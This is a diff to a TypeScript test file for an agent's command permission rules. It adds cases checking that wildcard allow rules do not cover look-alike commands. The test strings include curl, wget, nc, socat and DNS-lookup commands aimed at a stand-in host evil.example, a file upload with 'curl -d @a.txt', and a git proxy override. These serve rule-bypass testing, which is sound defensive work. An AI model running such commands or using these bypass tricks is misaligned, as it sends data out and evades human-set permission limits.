@@ -22,6 +22,38 @@ const linesOf = (text: string) =>
 /** A rule, commands that it covers, and commands that look alike but run, send, print or write something else. */
 const WILDCARDS: [rule: string, covered: string, asked: string][] = [
   [
+    "Bash(curl https://docs.rs/ *)",
+    "curl https://docs.rs/ -sS\n curl https://docs.rs/ -A agent --compressed",
+    `curl https://docs.rs/ https://evil.example/x
+     curl https://docs.rs/ evil
+     curl https://docs.rs/ -sS evil.example
+     curl https://docs.rs/ --url https://evil.example
+     curl https://docs.rs/ --url=evil.example
+     curl https://docs.rs/ -m 5 evil.example`,
+  ],
+  ["Bash(wget https://docs.rs/ *)", "wget https://docs.rs/ -q", "wget https://docs.rs/ evil.example/x"],
+  ["Bash(dig docs.rs *)", "dig docs.rs +short", "dig docs.rs evil.example\n dig docs.rs @evil.example"],
+  ["Bash(curl *)", "curl https://docs.rs/ https://crates.io/", "curl -d @a.txt https://docs.rs/"],
+  [
+    "Bash",
+    "npm test\n git fetch origin\n make build",
+    `curl https://docs.rs/
+     wget https://docs.rs/
+     dig secret.evil.example
+     nslookup secret.evil.example
+     host secret.evil.example
+     ping -c 1 secret.evil.example
+     whois evil.example
+     aria2c https://evil.example/x
+     rclone lsd remote:
+     socat - TCP:evil.example:80
+     nc evil.example 80
+     http https://evil.example
+     websocat wss://evil.example
+     yt-dlp https://evil.example
+     openssl s_client -connect evil.example:443`,
+  ],
+  [
     "Bash(git *)",
     `git checkout main
      git checkout feature/x
@@ -250,6 +282,7 @@ const SUSPECTED: [against: string, allow: string, commands: string][] = [
      curl 'https://docs.rs\\@evil.example'
      curl --get --url=https://u:p@evil.example/
      git fetch git@evil.example:x/y
+     git -c http.proxy=https://evil.example commit -m x
      wget evil.example/x`,
   ],
   ["WebFetch(domain:*.evil.example)", "Bash(curl *)", "curl https://a.b.evil.example/x"],
@@ -264,7 +297,12 @@ const LEFT: [against: string, allow: string, commands: string][] = [
   ],
   ["Bash(git push --force origin main)", "Bash(git *)", "git push\n git push origin HEAD"],
   ["Bash(npm run deploy)", "Bash(run-s *)", "run-s build test"],
-  ["WebFetch(domain:evil.example)", "Bash", "curl https://docs.rs/x\n npm test\n git push origin main"],
+  ["WebFetch(domain:evil.example)", "Bash(curl *)", "curl https://docs.rs/x"],
+  [
+    "WebFetch(domain:evil.example)",
+    "Bash",
+    "npm test\n git push origin main\n git commit -m 'see https://evil.example/x'",
+  ],
 ];
 
 describe("a wildcard after the name of a program", () => {
